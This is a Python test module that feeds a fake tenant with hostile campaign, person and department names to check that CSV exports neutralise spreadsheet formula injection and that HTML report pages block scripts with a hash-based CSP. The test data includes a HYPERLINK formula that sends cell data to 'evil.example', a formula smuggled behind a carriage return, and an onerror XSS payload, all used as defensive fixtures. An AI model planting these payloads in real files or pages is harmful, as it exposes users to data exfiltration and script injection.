"""Text from the tenant is untrusted: every CSV the project writes is inert in a spreadsheet,
reads back exactly with ``--raw`` / ``raw=True``, and report pages run only their own script.

A hostile tenant is served on the local fake API and fetched with the real client: campaign
names, people's names and departments are formulas (``=HYPERLINK(...)``, ``+1``, ``-cmd``,
``@SUM(1)``, a leading tab, a leading carriage return) and one department is an HTML payload.
Each CSV writer (``export``, ``campaigns --format csv``, the explorer's download and
``export_csv``, a report's ``figures.csv``) is parsed back with the :mod:`csv` module: no text
cell may start with a formula character, and :func:`restore_formula` gives the raw output back.
One report is rendered (all notebooks, the slow part); its pages' Content-Security-Policy must
name by hash exactly the scripts they hold and allow no inline script or handler.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import shutil
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from awareness_analysis.api.fetch import fetch_snapshot
from awareness_analysis.api.transport import MimecastClient
from awareness_analysis.app import load_analysis
from awareness_analysis.cli import main
from awareness_analysis.data import csv_safe
from awareness_analysis.data.csv_safe import (
    FORMULA_PREFIXES,
    csv_text,
    neutralise_formula,
    restore_formula,
    spreadsheet_safe,
    write_csv,
)
from awareness_analysis.data.store import SnapshotStore
from awareness_analysis.demo import fake_server_settings
from awareness_analysis.fakeapi.dataset import FakeDataset
from awareness_analysis.fakeapi.server import FakeCredentials, FakeMimecastServer
from awareness_analysis.views import report as report_module
from awareness_analysis.views.report import (
    FIGURES_FILE,
    NOTEBOOK_METADATA_KEY,
    default_notebook_dir,
)
from awareness_analysis.views.widgets import UserExplorer
from tests.conftest import _campaign

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-cmd",
    "@SUM(1)",
    "\tTab",
    "\rCR",
)
#: Inert in a CSV, but an HTML page must show it as text (and the CSP would refuse it anyway).
HTML_PAYLOAD = "<img src=x onerror=alert(1)>"
DEPARTMENTS = (*FORMULAS, HTML_PAYLOAD)
#: Twice the default minimum group size: no department is suppressed, so each name shows.
PER_DEPARTMENT = 10
RESULTS = ("SENT", "CORRECT", "INCORRECT")
Rows = list[list[str]]


def hostile_dataset() -> FakeDataset:
    """One campaign per formula name; people named with formulas, in hostile departments."""
    people = len(DEPARTMENTS) * PER_DEPARTMENT
    campaigns, users = [], {}
    for c, title in enumerate(FORMULAS):
        items = [
            {
                "name": FORMULAS[n % len(FORMULAS)],
                "email": f"user{n}@corp.example",
                "department": DEPARTMENTS[n // PER_DEPARTMENT],
                "results": {
                    # Varied per person and campaign, so rates differ between views.
                    "forQuestion1": RESULTS[(n + c) % 3],
                    "forQuestion2": RESULTS[(n // 2 + c) % 3],
                },
                "acknowledgement": (n + c) % 4 != 0,
                "userState": "ACTIVE",
            }
            for n in range(people)
        ]
        campaign = _campaign(f"camp-{c}", title, 2, items)
        campaign["launchDate"] = f"2026-0{c + 1}-02T09:00:00+0000"  # one a month, in order
        campaign["createDate"] = f"2026-0{c + 1}-01T09:00:00+0000"
        campaigns.append(campaign)
        users[campaign["id"]] = items
    return FakeDataset(campaigns=campaigns, users=users)


@pytest.fixture(scope="module")
def server() -> Iterator[FakeMimecastServer]:
    with FakeMimecastServer(hostile_dataset(), credentials=FakeCredentials.demo()) as running:
        yield running


@pytest.fixture(scope="module")
def store(server: FakeMimecastServer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile tenant fetched with the real client, as a real fetch would store it."""
    path = tmp_path_factory.mktemp("hostile") / "store"
    settings = fake_server_settings(server, server.credentials)
    with MimecastClient(settings) as client:
        fetch_snapshot(client, SnapshotStore(path), progress=False)
    return path


def parse(text: str) -> Rows:
    """CSV text parsed as a spreadsheet's importer would split it (cells, not lines)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def text_of(path: Path) -> str:
    """The file's text as written: no newline translation, so a cell's CR stays a CR."""
    with open(path, encoding="utf-8", newline="") as handle:
        return handle.read()


def read(path: Path) -> Rows:
    return parse(text_of(path))


#: A number as the writers put one (``-0.25``, ``-3``, ``1e-05``): data, not a formula.
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def armed(rows: Rows) -> list[str]:
    """Cells a spreadsheet would run as formulas: text starting with a formula character (a
    number such as ``-0.25`` is a number, which is what the neutralising leaves alone)."""
    return [
        c for row in rows for c in row if c.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(c)
    ]


def restored(rows: Rows) -> Rows:
    return [[str(restore_formula(cell)) for cell in row] for row in rows]


def check_inert_and_reversible(safe: Rows, raw: Rows, must_hold: tuple[str, ...]) -> None:
    """``safe`` has no armed cell; ``raw`` holds every hostile value in ``must_hold`` as it
    was (so the hostile text reached this writer) and ``safe`` restores to it exactly."""
    assert safe and not armed(safe), armed(safe)[:5]
    cells = {cell for row in raw for cell in row}
    missing = [value for value in must_hold if value not in cells]
    assert not missing, f"hostile values not in the raw output: {missing}"
    assert armed(raw)  # --raw really is raw
    assert restored(safe) == raw


def without_comments(text: str) -> str:
    """The CSV after the explorer's leading ``#`` provenance lines (a cell may hold a CR, so
    the rows are not split here)."""
    lines = text.split("\n")
    first = next(i for i, line in enumerate(lines) if not line.startswith("#"))
    return "\n".join(lines[first:])


# -- the rule itself -------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_an_apostrophe_that_restore_removes(value: str) -> None:
    assert neutralise_formula(value) == "'" + value
    assert restore_formula(neutralise_formula(value)) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r ab1#\"\n"), max_size=8))
def test_every_text_round_trips_and_comes_out_inert(value: str) -> None:
    safe = neutralise_formula(value)
    assert isinstance(safe, str) and not safe.startswith(FORMULA_PREFIXES)
    assert restore_formula(safe) == value


def test_numbers_and_plain_text_are_left_alone() -> None:
    for value in (-1, -0.25, 0, 3.5, True, None, "Finance", "'quoted", "a=b", "#1 fan"):
        assert neutralise_formula(value) == value and restore_formula(value) == value
    frame = pd.DataFrame(
        {
            "delta": [-0.25, 0.5],  # a negative number is a number: no apostrophe
            "count": pd.array([-3, None], dtype="Int64"),
            "flag": [True, False],
            "text": ["-cmd", "ok"],
            "-col": ["x", "y"],  # column names are tenant text too (a people file's)
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["delta"].tolist() == [-0.25, 0.5] and safe["flag"].tolist() == [True, False]
    assert safe["count"].tolist() == [-3, pd.NA]
    assert safe["text"].tolist() == ["'-cmd", "ok"] and list(safe.columns)[-1] == "'-col"
    assert parse(csv_text(frame))[1] == ["-0.25", "-3", "True", "'-cmd", "x"]
    assert csv_text(frame, raw=True) == frame.to_csv(index=False, lineterminator="\r\n")


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    # Unquoted, the CR would end the row for a spreadsheet and the rest would be a new row's
    # first cell: a formula that no check of the cell's first character sees.
    smuggled = 'Bob\r=HYPERLINK("http://evil.example/","Click")'
    frame = pd.DataFrame({"name": [smuggled, "Ann\nLee"], "n": [1, 2]})
    for raw in (False, True):
        assert parse(csv_text(frame, raw=raw)) == [
            ["name", "n"],
            [smuggled, "1"],
            ["Ann\nLee", "2"],
        ]


def test_write_csv_is_atomic_and_refuses_a_missing_folder(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": list(FORMULAS)})
    out = write_csv(frame, tmp_path / "names.csv")
    assert [row[0] for row in read(out)[1:]] == ["'" + v for v in FORMULAS]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["names.csv"]  # no temporary left
    with pytest.raises(ValueError, match="does not exist"):
        write_csv(frame, tmp_path / "nope" / "names.csv")


# -- every writer ----------------------------------------------------------------------------


@pytest.mark.parametrize("table", ["campaigns", "users"])
def test_export_cli(store: Path, tmp_path: Path, table: str) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    base = ["export", "--store", str(store), "--table", table]
    assert main([*base, "--out", str(safe)]) == 0
    assert main([*base, "--out", str(raw), "--raw"]) == 0
    frame = getattr(SnapshotStore(store).load().frames, table)
    # --raw is exactly what pandas writes of the stored table: nothing added or lost.
    assert text_of(raw) == frame.to_csv(index=False, lineterminator="\r\n")
    hostile = FORMULAS if table == "campaigns" else DEPARTMENTS
    check_inert_and_reversible(read(safe), read(raw), hostile)


def test_campaigns_csv(
    server: FakeMimecastServer,
    no_mimecast_env: None,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for name, value in server.environment().items():
        monkeypatch.setenv(name, value)
    assert main(["campaigns", "--format", "csv"]) == 0
    safe = capsys.readouterr().out
    assert main(["campaigns", "--format", "csv", "--raw"]) == 0
    raw = capsys.readouterr().out
    check_inert_and_reversible(parse(safe), parse(raw), FORMULAS)
    assert [row[1] for row in parse(raw)[1:]] == list(FORMULAS)


def test_explorer_download_and_export(store: Path, tmp_path: Path) -> None:
    explorer = UserExplorer(load_analysis(store, min_group_size=5))
    table = explorer.table
    assert table is not None and set(table["department"].astype(str)) == set(DEPARTMENTS)

    def link_text(html_link: str) -> str:
        match = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', html_link)
        assert match, html_link
        return base64.b64decode(match.group(1)).decode("utf-8")

    outputs: dict[str, Callable[[bool], str]] = {
        "csv_text": lambda raw: explorer.csv_text(raw=raw),
        "download": lambda raw: link_text(explorer.download_html(raw=raw)),
        "export_csv": lambda raw: text_of(explorer.export_csv(tmp_path / f"p{raw}.csv", raw=raw)),
        "export_csv comments": lambda raw: text_of(
            explorer.export_csv(tmp_path / f"c{raw}.csv", comments=True, raw=raw)
        ),
    }
    for name, output in outputs.items():
        safe, raw = parse(without_comments(output(False))), parse(without_comments(output(True)))
        check_inert_and_reversible(safe, raw, DEPARTMENTS + FORMULAS)
        header = raw[0]
        names = [row[header.index("name")] for row in raw[1:]]
        assert names == table["name"].astype(str).tolist(), name  # every row, exactly
    # The download the button shows is the neutralised one.
    explorer._export_clicked()
    assert not armed(parse(without_comments(link_text(explorer.export_status.value))))
    # The "# filters ..." line names the chosen department: a spreadsheet splits that line
    # at commas too, so no piece of it may start a formula, raw or not.
    explorer.department.value = (FORMULAS[0],)
    explorer.search.value = 'x,=HYPERLINK("http://evil.example/?"&A5)'
    for name, output in outputs.items():
        if name == "export_csv":  # no comment lines
            continue
        for raw in (False, True):
            text = output(raw)
            comments = text[: len(text) - len(without_comments(text))]
            assert "x;=HYPERLINK('http://evil.example/?'&A5)" in comments, (name, comments)
            assert not armed(parse(comments)), (name, armed(parse(comments)))


# -- one report: figures.csv and the pages' Content-Security-Policy --------------------------


class Report:
    def __init__(self, folder: Path, raw_twin: Path, calls: list[bool]) -> None:
        self.folder = folder
        self.raw_twin = raw_twin  # figures.csv written from the same frame with raw=True
        self.calls = calls  # the raw flag of each figures.csv write

    def pages(self) -> dict[str, str]:
        return {p.name: p.read_text(encoding="utf-8") for p in sorted(self.folder.glob("*.html"))}


def spy_on_figures_csv(monkeypatch: pytest.MonkeyPatch, twin: Path | None) -> list[bool]:
    """Record the ``raw`` flag the report passes for ``figures.csv`` and, when ``twin`` is
    given, write the same frame raw there too, so one render checks both modes."""
    calls: list[bool] = []

    def spy(frame: pd.DataFrame, path: Any, *, raw: bool = False, **options: Any) -> Path:
        calls.append(raw)
        if twin is not None:
            csv_safe.write_csv(frame, twin, raw=True, **options)
        return csv_safe.write_csv(frame, path, raw=raw, **options)

    monkeypatch.setattr(report_module, "write_csv", spy)
    return calls


#: The notebooks the hostile report renders: every page kind (summary index, charts with view
#: menus, tables, the explorer, behaviour and trends), named so that a notebook being added
#: elsewhere cannot break this test; the CSP and figures.csv come from code all pages share.
REPORT_NOTEBOOKS = (
    "00_summary",
    "01_campaign_overview",
    "02_question_accuracy",
    "03_department_comparison",
    "04_user_explorer",
    "05_knowledge_and_behaviour",
    "06_trends_and_people",
)


@pytest.fixture(scope="module")
def hostile_report(store: Path, tmp_path_factory: pytest.TempPathFactory) -> Report:
    """The packaged notebooks rendered on the hostile store, by the CLI with its defaults."""
    folder = tmp_path_factory.mktemp("hostile-report")
    notebooks = folder / "notebooks"
    notebooks.mkdir()
    for stem in REPORT_NOTEBOOKS:
        shutil.copy(default_notebook_dir() / f"{stem}.ipynb", notebooks)
    twin = folder / "figures-raw.csv"
    with pytest.MonkeyPatch.context() as patch:
        calls = spy_on_figures_csv(patch, twin)
        args = ["report", "--store", str(store), "--out", str(folder / "out"), "--no-progress"]
        assert main([*args, "--notebooks", str(notebooks)]) == 0
    return Report(folder / "out", twin, calls)


def test_figures_csv_is_inert_numeric_and_reversible(hostile_report: Report) -> None:
    assert hostile_report.calls == [False]  # neutralised by default
    safe, raw = read(hostile_report.folder / FIGURES_FILE), read(hostile_report.raw_twin)
    check_inert_and_reversible(safe, raw, FORMULAS + DEPARTMENTS)
    # Numbers stay numbers: no apostrophe on a count or rate, negative or not.
    frame = pd.read_csv(hostile_report.folder / FIGURES_FILE, keep_default_na=False)
    for column in ("numerator", "n", "people", "rate", "ci_low", "ci_high"):
        values = frame[column][frame[column] != ""]
        assert len(values) and pd.to_numeric(values).notna().all(), column


def test_report_raw_reaches_figures_csv(
    store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # One notebook kept out of reports: the run plans, audits and writes figures.csv without
    # starting a kernel, which is all this flag concerns.
    notebooks = tmp_path / "notebooks"
    notebooks.mkdir()
    notebook = nbformat.v4.new_notebook(metadata={NOTEBOOK_METADATA_KEY: {"report": False}})
    nbformat.write(notebook, notebooks / "skipped.ipynb")
    calls = spy_on_figures_csv(monkeypatch, None)
    args = ["report", "--store", str(store), "--notebooks", str(notebooks), "--no-progress"]
    assert main([*args, "--out", str(tmp_path / "raw"), "--raw"]) == 0
    assert main([*args, "--out", str(tmp_path / "safe")]) == 0
    assert calls == [True, False]


def csp_of(page: str) -> dict[str, list[str]]:
    match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page)
    assert match, "no Content-Security-Policy meta"
    directives = [d.split() for d in match.group(1).split(";") if d.strip()]
    return {d[0]: d[1:] for d in directives}


class Elements(HTMLParser):
    """What a browser would parse of a page: each tag's attributes, and script count."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.attributes: list[tuple[str, str, str]] = []  # (tag, attribute, value)
        self.scripts = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def test_pages_allow_only_their_own_scripts_by_hash(hostile_report: Report) -> None:
    pages = hostile_report.pages()
    assert len(pages) == len(REPORT_NOTEBOOKS)  # the summary opens index.html
    for name, page in pages.items():
        csp = csp_of(page)
        assert csp["default-src"] == ["'none'"], name
        assert csp["style-src"] == ["'unsafe-inline'"], name  # the pages' styles still apply
        scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
        parsed = Elements(page)
        assert scripts and len(scripts) == parsed.scripts, name  # the view switcher, only
        hashes = {
            "'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'"
            for s in scripts
        }
        assert set(csp["script-src"]) == hashes, name  # every script named, nothing else
        assert "'unsafe-inline'" not in csp["script-src"], name
        # Hashes never cover inline handlers or javascript: URLs: the pages must have none
        # (an escaped "onerror=" inside an attribute's text is no handler).
        handlers = [a for a in parsed.attributes if a[1].startswith("on")]
        assert not handlers, f"{name}: {handlers[:3]}"
        urls = [
            a
            for a in parsed.attributes
            if a[1] in ("href", "src", "action", "xlink:href", "formaction")
            and a[2].strip().lower().startswith("javascript:")
        ]
        assert not urls, f"{name}: {urls[:3]}"
        assert HTML_PAYLOAD not in page, name  # the hostile department shows as text
    assert any(HTML_PAYLOAD.replace("<", "&lt;").replace(">", "&gt;") in p for p in pages.values())
